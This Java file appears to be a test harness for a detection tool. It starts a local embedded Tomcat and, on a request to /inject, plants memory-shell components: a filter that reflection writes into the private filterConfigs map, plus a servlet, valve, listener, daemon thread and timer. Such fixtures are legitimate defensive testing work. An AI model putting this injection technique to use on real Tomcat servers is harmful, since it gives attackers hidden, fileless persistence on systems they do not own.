import jakarta.servlet.Filter;
import jakarta.servlet.http.HttpServlet;
import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.HttpServletResponse;
import java.io.IOException;
import java.nio.file.Files;
import java.util.Map;
import org.apache.catalina.Context;
import org.apache.catalina.Valve;
import org.apache.catalina.Wrapper;
import org.apache.catalina.core.StandardContext;
import org.apache.catalina.startup.Tomcat;
import org.apache.tomcat.util.descriptor.web.FilterDef;
import org.apache.tomcat.util.descriptor.web.FilterMap;

public final class TomcatApp {
  private static StandardContext context;

  public static void main(String[] args) throws Exception {
    Tomcat tomcat = new Tomcat();
    tomcat.setBaseDir(Files.createTempDirectory("whorl-tomcat").toString());
    tomcat.setHostname("127.0.0.1");
    tomcat.setPort(0);
    tomcat.getConnector().setProperty("address", "127.0.0.1");
    Context made = tomcat.addContext("", null);
    context = (StandardContext) made;
    Tomcat.addServlet(context, "app", new App());
    context.addServletMappingDecoded("/*", "app");
    FilterDef own = new FilterDef();
    own.setFilterName("own");
    own.setFilter((request, response, chain) -> chain.doFilter(request, response));
    context.addFilterDef(own);
    FilterMap map = new FilterMap();
    map.setFilterName("own");
    map.addURLPattern("/*");
    context.addFilterMap(map);
    tomcat.start();
    int port = tomcat.getConnector().getLocalPort();
    Injected.expect("hello", Injected.get(port, "/x"));
    if (Injected.attacked()) {
      Injected.expect("done", Injected.get(port, "/inject"));
      Injected.expect("shell of filter", Injected.get(port, "/shell-filter"));
      Injected.expect("shell of servlet", Injected.get(port, "/shell-servlet"));
    }
    Injected.alertAndWait(args[0]);
  }

  public static final class App extends HttpServlet {
    @Override
    protected void doGet(HttpServletRequest request, HttpServletResponse response)
        throws IOException {
      try {
        if (request.getRequestURI().equals("/inject")) {
          Injected.comeIn();
          inject();
          Injected.carryOn();
          response.getWriter().print("done");
        } else {
          response.getWriter().print("hello");
        }
      } catch (Exception e) {
        e.printStackTrace();
        throw new IOException(e);
      }
    }

    @SuppressWarnings("unchecked")
    private static void inject() throws Exception {
      Filter filter = (Filter) Injected.make("reflection", "ShellFilter");
      FilterDef def = new FilterDef();
      def.setFilterName("shell");
      def.setFilter(filter);
      def.setFilterClass(filter.getClass().getName());
      context.addFilterDef(def);
      FilterMap map = new FilterMap();
      map.setFilterName("shell");
      map.addURLPattern("/shell-filter");
      context.addFilterMapBefore(map);
      Class<?> config = Class.forName("org.apache.catalina.core.ApplicationFilterConfig");
      var constructor = config.getDeclaredConstructor(Context.class, FilterDef.class);
      constructor.setAccessible(true);
      ((Map<String, Object>) Injected.field(context, "filterConfigs"))
          .put("shell", constructor.newInstance(context, def));

      Wrapper wrapper = context.createWrapper();
      wrapper.setName("shell-servlet");
      HttpServlet servlet = (HttpServlet) Injected.make("own", "ShellServlet");
      wrapper.setServlet(servlet);
      wrapper.setServletClass(servlet.getClass().getName());
      context.addChild(wrapper);
      context.addServletMappingDecoded("/shell-servlet", "shell-servlet");

      context.getPipeline().addValve((Valve) Injected.make("lookup", "ShellValve"));
      context.addApplicationEventListener(Injected.make("hidden", "ShellListener"));
      Thread resident = new Thread((Runnable) Injected.make("unsafe", "ShellThread"), "resident");
      resident.setDaemon(true);
      resident.start();
      java.util.Timer timer = new java.util.Timer("resident-timer", true);
      timer.schedule((java.util.TimerTask) Injected.make("domain", "ShellTimer"), 3_600_000L);
    }
  }
}
